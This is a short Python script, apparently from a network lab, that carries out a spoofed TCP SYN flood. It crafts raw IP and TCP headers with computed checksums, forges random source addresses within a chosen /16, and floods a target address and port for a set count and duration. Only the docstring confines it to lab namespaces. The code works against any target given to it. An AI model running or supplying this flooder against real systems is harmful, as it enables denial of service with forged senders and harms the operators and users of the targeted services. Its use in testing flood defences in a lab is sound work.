#!/usr/bin/env python3
"""Spoofed SYN flood for the lab (run inside the client namespace; root).

    syn-flood.py VIP PORT COUNT SECONDS SRC_PREFIX16
Sends COUNT TCP SYNs to VIP:PORT from random sources in SRC_PREFIX16/16 (e.g. 10.150) and random
ports, spread over at most SECONDS, then prints {"sent": N, "seconds": S} as JSON. Only lab
addresses: the packets never leave the namespaces (the router has no route to the sources).
"""
import json
import random
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main():
    vip, port, count, seconds, prefix = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), \
        float(sys.argv[4]), sys.argv[5]
    a, b = (int(x) for x in prefix.split("."))
    dst = socket.inet_aton(vip)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_IP, socket.IP_HDRINCL, 1)
    rnd = random.Random(1)
    start = time.monotonic()
    sent = 0
    while sent < count and time.monotonic() - start < seconds:
        src = bytes([a, b, rnd.randrange(256), rnd.randrange(1, 255)])
        try:
            s.sendto(syn(src, dst, rnd.randrange(1024, 65535), port, rnd.getrandbits(32)), (vip, 0))
            sent += 1
        except (BlockingIOError, OSError):
            time.sleep(0.001)
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - start, 3)}))


if __name__ == "__main__":
    main()
